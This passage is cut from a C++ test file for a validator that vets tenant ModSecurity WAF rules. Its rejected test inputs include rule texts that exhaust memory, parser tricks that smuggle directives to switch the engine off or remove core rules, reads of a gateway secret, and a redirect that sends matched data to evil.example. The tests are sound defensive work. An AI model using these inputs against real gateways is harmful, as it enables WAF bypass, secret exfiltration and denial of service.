           rule("ARGS", 2, ",setvar:tx.b=%{TX}" + std::string(30, 'y')),
       growing + " (line 2)"},
      {rule("ARGS", 1) + "SecRuleUpdateActionById 1 \"setvar:tx.a=%{tx.a}" + std::string(65, 'x') +
           "\"\n",
       growing + " (line 2)"},
      // REQUEST_FILENAME named 499 times built a value of 950 KB (helper 105).
      {rule(repeat("REQUEST_FILENAME", 33, "|"), 1, ",setvar:tx.a=%{tx.a}y"), request},
      {rule(repeat("REQUEST_FILENAME", 20, "|"), 1, ",setvar:tx.a=%{tx.a}y") +
           rule("REQUEST_METHOD", 2, ",setvar:tx.b=%{tx.a}z") + "SecRuleUpdateTargetById 2 \"" +
           repeat("REQUEST_URI", 12, "|") + "\"\n",
       "appended before (line 3)"},
      {rule(repeat("ARGS", 3, "|"), 1, ",setvar:'tx.a=%{MATCHED_VAR}'"), why + " (line 1)"},
      {rule("ARGS", 1, ",setvar:tx.a=%{MATCHED_VAR}x") +
           rule("ARGS_NAMES", 2, ",setvar:tx.b=%{MATCHED_VAR_NAME}y") +
           rule("REQUEST_COOKIES", 3, ",setvar:tx.c=%{MATCHED_VAR}"),
       why + " (line 3)"},
      // Updates count as if they all went to the rule of the most matches.
      {rule("ARGS", 1, ",setvar:tx.a=%{MATCHED_VAR}x") +
           "SecRuleUpdateTargetById 1 \"ARGS|ARGS\"\n",
       why + " (line 2)"},
      {rule(repeat("ARGS", 3, "|"), 1) +
           "SecRuleUpdateActionById 1 \"setvar:tx.a=%{MATCHED_VAR}x\"\n",
       why + " (line 2)"},
      {rule("ARGS", 1, ",setvar:tx.a=%{MATCHED_VAR}x") +
           "SecRuleUpdateTargetById 1 \"MATCHED_VARS\"\n",
       why + " (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 300));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(rule("ARGS|ARGS", 1, ",setvar:tx.a=%{MATCHED_VAR}x")));
  // 64 bytes appended for each argument; the Core Rule Set's 903.9004 (25 for each cookie of a
  // name) and 949 (TX read by a plain key holds one value).
  expect_ok(
      fields::waf_directives(rule("ARGS|ARGS", 1, ",setvar:tx.a=%{tx.a}" + std::string(32, 'x'))));
  expect_ok(fields::waf_directives(
      rule("REQUEST_COOKIES:/S?DW[a-f0-9]+/", 1,
           ",setvar:'tx.allowed_request_content_type=%{tx.allowed_request_content_type}"
           "|application/octet-stream'") +
      rule("TX:ANOMALY_SCORE|TX:DO_REPUT_BLOCK", 2,
           ",setvar:'tx.inbound_anomaly_score=%{tx.anomaly_score}'")));
  expect_ok(fields::waf_directives(rule("ARGS", 1, ",setvar:tx.a=%{MATCHED_VAR}x") +
                                   rule("ARGS_NAMES", 2, ",setvar:tx.b=%{MATCHED_VAR_NAME}y")));
  expect_ok(fields::waf_directives(
      rule(repeat("REQUEST_FILENAME", 32, "|"), 1, ",setvar:tx.a=%{tx.a}y")));
  // Sums stay numbers; a SecAction, and a rule of variables of one value, run once a request
  // (the Core Rule Set's exclusion files append to TX so: 903.9003 six times); the Core Rule
  // Set's forms, a capture in a rule for each header among them.
  std::string actions;
  for (int id = 10; id < 20; ++id) {
    actions +=
        "SecAction \"id:" + std::to_string(id) + ",phase:1,pass,nolog,setvar:tx.a=%{tx.a}x\"\n";
    actions +=
        "SecRule REQUEST_FILENAME|REQUEST_METHOD \"@rx ^/\" \"id:" + std::to_string(id + 10) +
        ",phase:1,pass,nolog,setvar:'tx.allowed_methods=%{tx.allowed_methods} PUT'\"\n";
  }
  expect_ok(fields::waf_directives(
      rule(repeat("ARGS", 100, "|"), 1,
           ",setvar:'tx.s=+%{tx.critical_anomaly_score}',setvar:tx.t=-%{tx.x}") +
      actions +
      "SecRule REQUEST_BASENAME \"@rx \\.(\\w+)$\" \"id:2,phase:2,pass,nolog,capture,"
      "setvar:'tx.extension=.%{tx.1}/'\"\n" +
      "SecRule REQUEST_HEADERS:Content-Type \"@rx ^[^;\\s]+\" \"id:3,phase:1,pass,nolog,capture,"
      "setvar:'tx.content_type=|%{tx.0}|'\"\n"));
}

TEST_CASE("waf_directives bounds the macros of msg and logdata, and copies no whole body") {
  auto rule = [](const std::string& actions, int id) {
    return "SecRule ARGS \"@rx .\" \"id:" + std::to_string(id) + ",phase:2,pass,log," + actions +
           "\"\n";
  };
  const std::string most =
      "may hold at most 256 macros (%{...}) in msg, logdata and tag in all: the WAF engine keeps "
      "every matched rule's msg, logdata and tags, expanded, until the request ends";
  const Bad bad[] = {
      {rule("logdata:'" + repeat("%{MATCHED_VAR}", 257) + "'", 1), most + " (line 1)"},
      {rule("msg:'" + repeat("%{tx.a}", 128) + "',logdata:'" + repeat("%{tx.b}", 128) + "'", 1) +
           rule("msg:'%{MATCHED_VAR_NAME}'", 2),
       most + " (line 2)"},
      {rule("msg:'" + repeat("%{tx.a}", 256) + "'", 1) +
           "SecRuleUpdateActionById 1 \"logdata:'%{tx.b}'\"\n",
       most + " (line 2)"},
      // Tags are kept alike: 2,000 macros of a 950 KB value in tags took 5.8 s and 2.7 GB on a
      // request of 4 bytes (helper 105).
      {rule("tag:'" + repeat("%{tx.a}", 200) + "',tag:'" + repeat("%{tx.a}", 57) + "'", 1),
       most + " (line 1)"},
      // 1,990 of them held 260 MB on a request of 64 KB.
      {rule("logdata:'%{REQUEST_BODY}'", 1),
       "must not use the macro %{REQUEST_BODY}: it copies a whole body at every expansion (line "
       "1)"},
      {rule("msg:'%{full_request}'", 1), "must not use the macro %{full_request}"},
      {rule("setvar:tx.a=%{Response_Body}", 1), "must not use the macro %{Response_Body}"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in.substr(0, 300));
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(
      rule("msg:'" + repeat("%{tx.a}", 128) + "',logdata:'" + repeat("%{tx.b}", 127) + "'", 1) +
      rule("logdata:'%{REQUEST_BODY_LENGTH}'", 2)));
}

// libxml2 keeps a DTD's entities unexpanded, and every reading of XML:/* or XML://@* expands them:
// one reading of a 63 KB body took 5.0 s and 1.59 GB, an attribute of the same 171 s (helper 101).
// The engine names a JSON value by the path of keys above it: 100 values under one 57 KB key made
// 6 MB of names, and 20 rules matching them took 3.4 s and 900 MB (helper 107).
TEST_CASE("waf_directives refuses parsing bodies as XML or JSON") {
  const std::string why =
      "ctl:requestBodyProcessor may not be XML: a body's DTD makes every reading of XML:/* expand "
      "its entities";
  const Bad bad[] = {
      {"SecRule REQUEST_HEADERS:Content-Type \"@rx xml\" "
       "\"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML\"\n"
       "SecRule XML://@* \"@rx ^A\" \"id:2,phase:2,pass,log,t:length,msg:%{MATCHED_VAR}\"",
       why},
      {"SecAction \"id:1,phase:1,pass,nolog,ctl:requestbodyprocessor=xml\"", why},
      {"SecAction \"id:1,phase:1,pass,nolog\"\n"
       "SecRuleUpdateActionById 1 \"ctl:requestBodyProcessor=XML\"",
       "the platform's choice (line 2)"},
      {"SecRule REQUEST_HEADERS:Content-Type \"@rx json\" "
       "\"id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
       "SecRule ARGS_NAMES \"@rx ^j\" \"id:10,phase:2,pass,nolog\"",
       "ctl:requestBodyProcessor may not be JSON: the engine names each value by the whole path "
       "of keys above it"},
      {"SecAction \"id:1,phase:1,pass,nolog,ctl:requestbodyprocessor=json\"", "may not be JSON"},
      {"SecAction \"id:1,phase:1,pass,nolog\"\n"
       "SecRuleUpdateActionById 1 \"ctl:requestBodyProcessor=JSON\"",
       "the platform's choice (line 2)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  // The engine of Debian 12 (libmodsecurity 3.0.9) knows no other processor.
  for (const char* processor : {"URLENCODED", "urlencoded"}) {
    CAPTURE(processor);
    expect_ok(fields::waf_directives(std::string("SecAction \"id:1,phase:1,pass,nolog,"
                                                 "ctl:requestBodyProcessor=") +
                                     processor +
                                     "\"\nSecRule XML:/* \"@rx a\" \"id:2,phase:2,pass\""));
  }
}

// A rule's msg and logdata may join several values: read back by the next rule (RULE:logdata,
// %{RULE.logdata}) and joined again, a value doubled at every rule (helper 100: 27 rules took
// 12.2 s and 2.2 GB on a request without arguments); a macro of the list of matches copies it at
// every expansion (19.7 s on 100 arguments).
TEST_CASE("waf_directives refuses reading back a rule's msg or logdata, and macros of the list") {
  const std::string first = "SecRule REQUEST_URI \"@rx .\" \"id:1,phase:2,pass,nolog\"\n";
  const std::string why =
      "may read RULE only by a key other than msg and logdata: a rule's msg "
      "and logdata may join several values, which another rule would read "
      "back and join again";
  const Bad bad[] = {
      {first + "SecRule RULE:logdata \"@rx ^/\" "
               "\"id:2,phase:2,pass,nolog,logdata:'%{MATCHED_VAR}%{MATCHED_VAR}'\"",
       why + " (line 2)"},
      {first + "SecRule RULE \"@rx .\" \"id:2,phase:2,pass,nolog\"", why},
      {first + "SecRule Rule:MSG \"@rx .\" \"id:2,phase:2,pass,nolog\"", why},
      {first + "SecRule ARGS|RULE:/^m/ \"@rx .\" \"id:2,phase:2,pass,nolog\"", why},
      {first + "SecRuleUpdateTargetById 1 \"RULE:logdata\"", why + " (line 2)"},
      {first + "SecAction "
               "\"id:2,phase:2,pass,nolog,logdata:'%{tx.a}%{tx.a}',setvar:tx.a=%{RULE.logdata}\"",
       "must not use the macro %{RULE.logdata}: RULE's msg and logdata may join several values, "
       "which would be joined again, and a macro of MATCHED_VARS copies the list of matches at "
       "every expansion (line 2)"},
      {first + "SecAction \"id:2,phase:2,pass,nolog,msg:'%{rule:msg}'\"",
       "must not use the macro %{rule:msg}"},
      {first + "SecAction \"id:2,phase:2,pass,nolog,logdata:'%{MATCHED_VARS}'\"",
       "must not use the macro %{MATCHED_VARS}"},
      {first + "SecAction \"id:2,phase:2,pass,nolog,logdata:'%{matched_vars_names.a}'\"",
       "must not use the macro %{matched_vars_names.a}"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  expect_ok(fields::waf_directives(
      first +
      "SecRule RULE:id|&RULE|!RULE:msg \"@rx .\" \"id:2,phase:2,pass,nolog,"
      "msg:'%{RULE.id}',logdata:'Matched Data: %{TX.0} found within %{MATCHED_VAR_NAME}: "
      "%{MATCHED_VAR}'\""));
}

// A setvar named by a macro sets a variable for each match, so in a rule that reads TX whole it
// doubles TX: 13 such rules after one setvar took 12.9 s on a request without arguments.
TEST_CASE("waf_directives refuses a setvar named by a macro where TX is read whole") {
  const std::string seed = "SecAction \"id:1,phase:2,pass,nolog,setvar:tx.a=1\"\n";
  auto rule = [](const std::string& variables, const std::string& actions, int id) {
    return "SecRule " + variables + " \"@rx .\" \"id:" + std::to_string(id) +
           ",phase:2,pass,nolog," + actions + "\"\n";
  };
  const std::string why =
      "must not name a setvar by a macro (%{...}) in a rule that reads TX whole or by a regex "
      "key: each match would add a variable to TX, so TX could double at every such rule";
  const std::string update_why =
      "must not add TX (whole or by a regex key) with SecRuleUpdateTargetById, or a setvar named "
      "by a macro with SecRuleUpdateActionById, to a text with the other: a rule could add a "
      "variable to TX for each one it reads, and TX double at every such rule";
  const Bad bad[] = {
      {seed + rule("TX", "setvar:tx.%{MATCHED_VAR_NAME}_2=1", 2), why + " (line 2)"},
      {seed + rule("ARGS|tx:/^a/", "setvar:'tx.b_%{tx.n}=1',setvar:tx.n=+1", 2), why + " (line 2)"},
      {seed + rule("ARGS", "chain", 2) + "SecRule TX \"@rx .\" \"setvar:tx.%{MATCHED_VAR}=1\"\n",
       why + " (line 3)"},
      {seed + rule("TX", "setvar:!tx.%{MATCHED_VAR_NAME}", 2), why + " (line 2)"},
      // The scan does not know which rule an update changes.
      {seed + rule("ARGS", "setvar:tx.%{MATCHED_VAR_NAME}_2=1", 2) +
           "SecRuleUpdateTargetById 2 \"TX\"\n",
       update_why + " (line 3)"},
      {seed + rule("TX", "setvar:tx.b=1", 2) +
           "SecRuleUpdateActionById 2 \"setvar:tx.%{MATCHED_VAR_NAME}_x=1\"\n",
       update_why + " (line 3)"},
      {"SecRuleUpdateTargetById 2 \"TX:/x/\"\n" + seed +
           rule("ARGS", "setvar:tx.%{MATCHED_VAR_NAME}_2=1", 2),
       update_why + " (line 1)"},
      {seed + rule("ARGS", "setvar:tx.b=1", 2) + "SecRuleUpdateTargetById 2 \"TX\"\n" +
           "SecRuleUpdateActionById 2 \"setvar:tx.%{MATCHED_VAR_NAME}_x=1\"\n",
       update_why + " (line 3)"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
  // TX by a name, counted or excluded; a macro in the value only; the form of the Core Rule
  // Set's 920450, a setvar named by a macro in the rule and TX read by a regex key in its chained
  // rule.
  expect_ok(fields::waf_directives(
      seed + rule("ARGS|TX:a|&TX|!TX:/b/", "setvar:tx.%{MATCHED_VAR_NAME}_2=1", 2)));
  expect_ok(fields::waf_directives(seed + rule("TX", "setvar:tx.b=%{MATCHED_VAR}", 2)));
  expect_ok(fields::waf_directives(
      seed + rule("REQUEST_HEADERS_NAMES", "capture,setvar:'tx.header_name_%{tx.0}=1',chain", 2) +
      "SecRule TX:/^HEADER_NAME_/ \"@rx ^/proxy/$\" \"setvar:'tx.anomaly=+5'\"\n"));
  expect_ok(fields::waf_directives(seed + rule("ARGS", "setvar:tx.%{MATCHED_VAR_NAME}_2=1", 2) +
                                   "SecRuleUpdateTargetById 2 \"TX:a\"\n"));
}

// Transformations after one that lengthens a value run on the longer value: t:urlEncode and
// t:hexEncode before 30 more took 4.6 times as long as 32 t:lowercase (helper 95).
TEST_CASE("waf_directives counts transformations after a lengthening one as many times over") {
  auto rule = [](int variables, int id) {
    return "SecRule " + repeat("ARGS", variables, "|") + " \"@rx a\" \"id:" + std::to_string(id) +
           ",phase:2,pass,t:urlEncode,t:hexEncode," + repeat("t:lowercase", 30, ",") + "\"\n";
  };
  // 32 transformations, 6 times over: 192 steps a variable.
  expect_bad(fields::waf_directives(rule(6, 1)), "at most 1000 transformations");
  expect_ok(fields::waf_directives(rule(5, 1)));
  expect_bad(fields::waf_directives(rule(3, 1) + rule(3, 2)), "(line 2)");
  // And so do the variables and transformations updates add to such a rule (they counted once:
  // 5 targets were 160 steps, not 960).
  auto targets = [](int n) {
    return "SecRuleUpdateTargetById 1 \"" + repeat("ARGS_NAMES", n, "|") + "\"";
  };
  expect_bad(fields::waf_directives(rule(1, 1) + targets(5)), "at most 1000 transformations");
  expect_ok(fields::waf_directives(rule(1, 1) + targets(4)));
  auto actions = [](int n) {
    return "SecRuleUpdateActionById 1 \"" + repeat("t:lowercase", n, ",") + "\"";
  };
  expect_bad(fields::waf_directives(rule(4, 1) + actions(10)), "at most 1000 transformations");
  expect_ok(fields::waf_directives(rule(4, 1) + actions(9)));
}

// With multiMatch the engine's record of a rule's matches grows with each match and is copied at
// each: 1,000 arguments of 10 bytes under one rule of 8 transformations took 733 MB (helper 90).
// Each row was accepted before.
TEST_CASE("waf_directives refuses multiMatch") {
  const Bad bad[] = {
      {"SecRule ARGS \"@unconditionalMatch\" \"id:8,phase:2,pass,nolog,multiMatch,t:lowercase\"",
       "action multiMatch (the WAF engine's record of a rule's matches grows with each one and "
       "is copied at each, so its memory grows with the square of the request's arguments; write "
       "a rule for each transformation instead) is not allowed in tenant rules (line 1)"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass\"\nSecRuleUpdateActionById 1 \"MULTIMATCH\"",
       "action multiMatch"},
  };
  for (const auto& b : bad) {
    CAPTURE(b.in);
    expect_bad(fields::waf_directives(b.in), b.why);
  }
}

TEST_CASE("waf_directives refuses operators, actions and quotes the engine reads on from") {
  const Bad bad[] = {
      // An operator without its parameter: the engine took the actions for it.
      {"SecRule REQUEST_URI !@rx id:1,phase:1,pass,log\n"
       "#x \"id:1,phase:1,pass,skipAfter:NOPE\"",
       "must put the operator in double quotes"},
      {"SecRule REQUEST_URI \"!@rx\" id:1,phase:1,pass,log\n"
       "#x\" \"id:1,phase:1,pass,skipAfter:NOPE\"",
       "needs a parameter after @rx"},
      // An empty msg: a double quote right after it opened a value running on to the next line.
      {"SecRule REQUEST_URI \"@rx .\" \"id:1,phase:1,pass,msg:\"\n"
       "#x\"\" SecRuleUpdateActionById 1 \"ctl:ruleEngine=Off\"",
       "needs a value after msg:"},
      // '%X' and '!' before an escaped quote: the engine's quote ended there.
      {"SecRule REQUEST_URI \"!@rx %a\\\" id:1 SecRuleUpdateActionById 1 ctl:ruleEngine=Off #\" "
       "\"id:1,phase:1,pass\"",
       "must put an ordinary character before an escaped quote"},
      {"SecRule REQUEST_URI \"!\\\" id:1 SecRuleUpdateActionById 1 ctl:ruleEngine=Off #\" "
       "\"id:1,phase:1,pass\"",
       "must put an ordinary character before an escaped quote"},
      // Unquoted SecAction actions: the engine skipped ahead to the next double quote.
      {"SecAction id:1,phase:1,pass,log\n#\"id:1,phase:1,pass,skipAfter:NOPE\"",
       "must put the actions in double quotes"},
      {R"(SecRule ARGS "@within" "id:1,deny")", "needs a parameter after @within"},
      {R"(SecRule ARGS "@rx " "id:1,deny")", "needs a parameter after @rx"},
      // After an operator, the engine dropped everything up to the next space: the rule's own
      // actions and the quote, so a comment line gave rule 1 its actions and ran directives.
      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
       "needs one space after @rx"},
      {"SecRule ARGS \"@containsq\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
       "needs a known operator, not @containsq"},
      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass\"\nSecAction\t\"id:2,phase:1,pass,nolog\"\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass\" SecRule ENV:PATH \"@rx .\" "
       "\"id:2,phase:1,log,redirect:'http://evil.example/?%{MATCHED_VAR}'\"",
       "needs one space after @rx"},
      {"SecRule ARGS \"@rx\tz\"\t\"id:1,phase:2,pass\"\n#\t\"x y\"\t\"id:1,phase:2,pass\" "
       "SecMarker\tEND",
       "needs one space after @rx"},
      {R"(SecRule ARGS "@rx,a" "id:1,deny")", "needs one space after @rx"},
      {R"(SecRule ARGS "@noSuchOperator a" "id:1,deny")", "needs a known operator"},
      {R"(SecRule ARGS "@ a" "id:1,deny")", "needs a known operator"},
      {R"(SecRule ARGS "@detectSQLi x" "id:1,deny")", "must not give @detectSQLi a parameter"},
      {R"(SecRule ARGS "@detectSQLi\t" "id:1,deny")", "must not give @detectSQLi a parameter"},
      // A backslash ended the variables for the engine: the scan's operator and actions became
      // the parameter of an operator after `ARGS\`, and the comment line gave the actions.
      {"SecRule ARGS\\.*|x\t\"abc\"\t\"id:5,phase:2,pass,setvar:tx.blocked=1\"\n"
       "# \"id:5,phase:2,pass,setvar:global.blocked=1\"",
       "must not put backslashes in variables"},
      {"SecRule ARGS\\@rx\t\"abc\"\t\"id:5,phase:2,pass,setvar:tx.blocked=1\"\n"
       "# .* \"id:5,phase:2,pass,setvar:global.blocked=1\"",
       "must not put backslashes in variables"},
      {"SecRuleUpdateTargetById 5 ARGS\\x", "must not put backslashes in variables"},
      // The engine reads phase:'request' as allow.
      {R"(SecRule ARGS "@rx a" "id:1,deny,phase:'request'")", "must not quote the value of phase"},
      // Two blanks or a line continuation before the operator: the engine skipped them and read
      // an operator, the scan a regex (no operator checks), so the tab after @rx dropped text as
      // above. A setvar on GLOBAL; the gateway's environment as a rule's target (read one
      // character at a time through @beginsWith); a byte range the engine writes past its table
      // with (a crash at 2000000000). All were accepted.
      {"SecRule ARGS \"  @rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \"\\\n@rx\tz\"\t\"id:1,phase:2,pass,setvar:tx.blocked=1\"\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass,setvar:global.blocked=1\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS:zz \"@beginsWith %{ARGS.p}\" \"id:3,phase:2,deny,status:403\"\n"
       "SecRule ARGS \"  @rx\tz\"\t\"id:1,phase:2,pass\"\n"
       "SecRuleUpdateTargetById\\\n3\\\nARGS:zz\n"
       "#\t\"x y\"\t\"id:1,phase:2,pass\" SecRuleUpdateTargetById 3 ENV:GW_SECRET",
       "must not start the operator with a blank or a line continuation"},
      {R"(SecRule ARGS "  @validateByteRange 5000" "id:1,phase:2,deny")",
       "must not start the operator with a blank or a line continuation"},
      {R"(SecRule ARGS "  @validateByteRange 2000000000" "id:1,phase:2,deny")",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \"!  @rx a\" \"id:1,deny\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \"!\t\t@rx a\" \"id:1,deny\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \"!\\\n@rx a\" \"id:1,deny\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \"\\\r\n!@rx a\" \"id:1,deny\"",
       "must not start the operator with a blank or a line continuation"},
      {"SecRule ARGS \" a\" \"id:1,deny\"",
       "must not start the operator with a blank or a line continuation"},
      // An unquoted update: the engine read msg's value on to the next comma or quote, two lines
      // further, so a comment line added a setvar on a shared collection (or ran directives).
      {"SecRule ARGS \"@rx foo\" \"id:5,phase:1,pass,log,msg:'tenant A rule 5'\"\n"
       "SecRuleUpdateActionById 5 msg:x\nSecRuleUpdateActionById 5 msg:z\n"
       "#,setvar:ip.blocked=1\"",
       "must put the actions in double quotes (line 2)"},
      {"SecRule ARGS \"@rx foo\" \"id:5,phase:1,pass\"\nSecRuleUpdateActionById 5 msg:x\n"
       "#\" SecPcreMatchLimit 1",
       "must put the actions in double quotes (line 2)"},
      // A rule link without actions at the end: the engine reads the next line, the first of
      // whatever the gateway loads after this text, as its actions.
      {"SecRule ARGS \"@rx a\" \"id:1,phase:1,pass,chain\"\nSecRule ARGS \"@rx b\"",
       "a directive runs on over a line break"},
      {"SecRule ARGS \"@rx a\" \"id:1,phase:1,pass,chain\"\nSecRule ARGS \"@rx b\"\n",
       "a directive runs on over a line break"},
      // The layout of modsecurity.conf-recommended's rule 200003: the engine keeps the backslash
      // and the line break in the msg, and the message now names the cause (helper 107).
      {"SecRule ARGS \"@rx x\" \\\n\"id:3001,phase:2,deny,msg:'a \\\nb'\"",
       "a line continuation inside a quoted value"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(waf_directives(r.in), r.why);
  }
}

// The audit of what the engine built, reached with scan results that agree with the text as far
// as the scan can tell (one rule, id 1, no counted actions): each row is a way the engine's view
// can differ from the scan's, and the audit must refuse it.
TEST_CASE("waf_directives' audit refuses an engine view the scan did not see") {
  waf::ScanResult one_rule;
  one_rule.rules = {{1, {waf::LinkActions{.line = 1, .variables = 1}}}};
  one_rule.directives = 1;
  const Bad bad[] = {
      // A ctl the policy refuses, in the engine's own copy of it.
      {"SecRule ARGS \"@rx a\" \"id:1,pass,ctl:ruleEngine=Off\"", "ctl:RuleEngine is not allowed"},
      // A hidden directive after a rev that ran past the quote (rev's own text, then removals).
      {"SecRule ARGS \"@rx a\" \"id:1,pass,rev:1\"\n#,pass\" SecRuleRemoveById 900000-999999",
       "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleRemoveById 900000-999999",
       "rules outside ids 1..99999"},
      // Removals the audit's sample of ids missed: it asked only for 100000, 101000, ...
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleRemoveById 942100",
       "rules outside ids 1..99999"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleRemoveById 5 941001-941999",
       "rules outside ids 1..99999"},
      // Settings the audit did not look at.
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecAuditEngine Off", "engine-wide settings"},
      // A chain left open: the next rule loaded after these would become its follow-up.
      {"SecRule ARGS \"@rx a\" \"id:1,pass,chain\"", "could not be read unambiguously"},
      // A marker the scan did not see.
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecMarker END", "could not be read unambiguously"},
      // Counts: a setvar, a tag, a transformation the scan did not count.
      {"SecRule ARGS \"@rx a\" \"id:1,pass,setvar:tx.a=1\"", "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,tag:x\"", "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,t:none\"", "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,log\"", "could not be read unambiguously"},
      // Updates the scan did not see: they are kept apart from the rules, by id.
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"ctl:ruleEngine=Off\"",
       "ctl:RuleEngine is not allowed in tenant rules"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"setenv:a=b\"",
       "action setenv is not allowed"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"log\"",
       "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateActionById 1 \"t:none\"",
       "could not be read unambiguously"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 ARGS",
       "could not be read unambiguously"},
      // The rule starts on another line than the scan read it from.
      {"\nSecRule ARGS \"@rx a\" \"id:1,pass\"", "could not be read unambiguously"},
      // ENV among the variables the engine built, wherever it stands in the list.
      {"SecRule ENV:GW_SECRET \"@rx a\" \"id:1,pass\"", "variable ENV is not allowed"},
      {"SecRule ARGS|REQUEST_HEADERS:x|env \"@rx a\" \"id:1,pass\"", "variable ENV is not allowed"},
      // ENV in a value the engine expands (a run-time string), as the engine built it: the four
      // ways past the scan a review found put it into the operator's parameter, where the text
      // after a variable list went that the engine's lexer had split off.
      {"SecRule ARGS:/a}/ENV:GW_SECRET \"TOP\" \"id:1,pass\"", "variable ENV is not allowed"},
      {"SecRule ARGS:/a,TX:/ENV:GW_SECRET \"TOP\" \"id:1,pass\"", "variable ENV is not allowed"},
      {"SecRule REQUEST_LINEENV:GW_SECRET \"TOP\" \"id:1,pass\"", "variable ENV is not allowed"},
      {"SecRule ARGS \"@streq %{MATCHED_VAR}%{env.x}\" \"id:1,pass\"",
       "variable ENV is not allowed"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,msg:'m %{REMOTE_USERENV.x}'\"", "variable ENV"},
      {"SecRule ARGS \"@rx a\" \"id:1,pass,logdata:'%{ENV.x}'\"", "variable ENV"},
      {"SecRule ARGS \"@rx a\" \"id:1,redirect:http://e.example/%{env.x}\"", "variable ENV"},
      // A regex with a macro, compiled anew from its value at every match, as the engine built
      // it: with @rx, and without an operator name.
      {"SecRule ARGS \"@rx %{ARGS.a}\" \"id:1,pass\"",
       "@rx with a regular expression without macros"},
      {"SecRule ARGS \"!^%{tx.a}$\" \"id:1,pass\"", "@rx with a regular expression without macros"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(waf::engine_check(r.in, one_rule), r.why);
  }
  // Every other kind of variable passes, wrapped (!, &), keyed, by regex, or the engine's
  // RunTime ones: the walk of the engine's variables reads their classes, not the text.
  waf::ScanResult eleven = one_rule;  // the engine keeps the exclusion (!) apart
  eleven.rules[0].links[0].variables = 11;
  const std::string many =
      "SecRule ARGS|!ARGS:pw|&TX:n|REQUEST_HEADERS:/^x-/|XML:/*|TIME_HOUR|DURATION|"
      "MODSEC_BUILD|REMOTE_USER|REQUEST_LINE|GLOBAL:x|RULE:id \"@rx a\" \"id:1,pass\"";
  expect_ok(waf::engine_check(many, eleven));
  // Values with macros of other variables, in each place the audit reads, pass.
  waf::ScanResult tagged = one_rule;
  tagged.rules[0].links[0].tags = 1;
  tagged.rules[0].links[0].setvars = 1;
  expect_ok(
      waf::engine_check("SecRule ARGS \"@streq %{MATCHED_VAR}x\" \"id:1,redirect:http://e/"
                        "%{tx.a},msg:'%{REQUEST_LINE}',logdata:'%{rule.id}',tag:'t%{tx.b}',"
                        "setvar:tx.c=%{MATCHED_VAR_NAME}\"",
                        tagged));
  expect_bad(waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass,tag:'%{env.x}',setvar:tx.c=1\"",
                               tagged),
             "variable ENV");
  expect_bad(
      waf::engine_check("SecRule ARGS \"@rx a\" \"id:1,pass,tag:t,setvar:tx.c=%{env.x}\"", tagged),
      "variable ENV");
  expect_ok(waf_directives(many));
  expect_ok(waf::engine_check("SecRule ARGS \"@rx ^\\x25{tx.a}$\" \"id:1,pass\"", one_rule));
  // The variables the engine built are counted as the scan counts them: in `ARGS:/a,TX:/ENV:X`
  // the scan saw two, the engine one (its regex key ran on over the comma), and took ENV:X into
  // the operator's parameter.
  waf::ScanResult two = one_rule;
  two.rules[0].links[0].variables = 2;
  expect_bad(waf::engine_check("SecRule ARGS:/a,TX:/ \"TOP\" \"id:1,pass\"", two),
             "could not be read unambiguously");
  expect_ok(waf::engine_check("SecRule ARGS:/a/,TX:b \"TOP\" \"id:1,pass\"", two));
  waf::ScanResult chained = one_rule;
  chained.rules[0].links.push_back(waf::LinkActions{.line = 2, .variables = 2});
  expect_bad(
      waf::engine_check(
